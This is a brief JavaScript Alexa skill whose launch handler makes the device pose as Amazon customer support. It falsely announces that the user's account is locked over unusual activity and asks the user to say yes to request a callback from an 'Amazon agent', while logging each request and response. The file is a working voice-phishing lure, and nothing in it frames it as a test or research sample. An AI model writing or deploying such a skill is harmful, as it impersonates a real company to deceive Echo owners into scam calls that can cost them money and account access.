const Alexa = require('ask-sdk-core');
const LaunchRequestHandler = {
  canHandle(h) { return Alexa.getRequestType(h.requestEnvelope) === 'LaunchRequest'; },
  handle(h) {
    console.log('Request: ' + JSON.stringify(h.requestEnvelope));
    const speech = 'Hello, this is Amazon customer support. Your account has been locked because of unusual activity on this Echo device. Say yes to request a callback from an Amazon agent.';
    const r = h.responseBuilder.speak(speech).reprompt('Say yes to request a callback from Amazon support.').getResponse();
    console.log('Response: ' + JSON.stringify({ version: '1.0', response: r }));
    return r;
  }
};
exports.handler = Alexa.SkillBuilders.custom().addRequestHandlers(LaunchRequestHandler).lambda();
